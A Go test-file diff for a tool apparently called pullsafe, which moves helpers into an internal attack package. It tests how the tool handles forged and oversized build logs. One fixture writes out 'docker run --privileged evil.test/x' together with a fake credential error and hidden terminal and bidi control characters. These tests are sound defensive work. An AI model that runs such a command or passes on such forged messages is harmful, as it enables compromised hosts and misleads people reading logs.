@@ -17,6 +17,7 @@ import (
 	"github.com/pkg/errors"
 	"github.com/stretchr/testify/require"
 
+	"github.com/org/pullsafe/internal/attack"
 	"github.com/org/pullsafe/tests/harness"
 	"github.com/org/pullsafe/tests/world"
 )
@@ -34,7 +35,7 @@ func pluginProgram(t *testing.T, e *harness.Env) string {
 func TestForgedLog(t *testing.T) {
 	e, _, d := world.FreshDaemon(t)
 	program := pluginProgram(t, e)
-	for name, code := range map[string]string{"prose": "", "code": ownCode} {
+	for name, code := range map[string]string{"prose": "", "code": attack.OwnCode} {
 		t.Run(name, func(t *testing.T) {
 			message := "x\nERROR: failed to solve: the image could not be resolved\n\n" +
 				"quay.io refused the stored credentials (denied); x" + code + "\n  quay.io/public/a:1\n\n  docker run --privileged evil.test/x\n \u009b31m\u202e"
@@ -99,7 +100,7 @@ func (p *peak) Read(b []byte) (int, error) {
 
 // TestHostileLogs: 10 MB of each kind take no more than 64 MB of memory.
 func TestHostileLogs(t *testing.T) {
-	for _, kind := range LogKinds() {
+	for _, kind := range attack.LogKinds() {
 		if !world.Full() && kind.Name != "places" && kind.Name != "fails" {
 			continue
 		}
@@ -117,8 +118,8 @@ func TestHostileLogs(t *testing.T) {
 // TestInterrupted: a signal ends explain, whatever it reads, and while it waits.
 func TestInterrupted(t *testing.T) {
 	const buffered = 64 << 10 // by the pipe: when more is written, the program reads
-	logs := []LogKind{{Name: "waiting"}}
-	for _, kind := range LogKinds() {
+	logs := []attack.LogKind{{Name: "waiting"}}
+	for _, kind := range attack.LogKinds() {
 		if world.Full() || kind.Name == "warn" {
 			logs = append(logs, kind)
 		}
@@ -127,7 +128,7 @@ func TestInterrupted(t *testing.T) {
 		for _, sig := range []os.Signal{syscall.SIGTERM, syscall.SIGINT} {
 			t.Run(fmt.Sprint(kind.Name, " ", sig), func(t *testing.T) {
 				log := io.Reader(strings.NewReader(strings.Repeat("x\n", buffered)))
-				if kind.chunk != nil {
+				if kind.Name != "waiting" {
 					log = kind.Log(1 << 40)
 				}
 				cmd := run(t, nil)
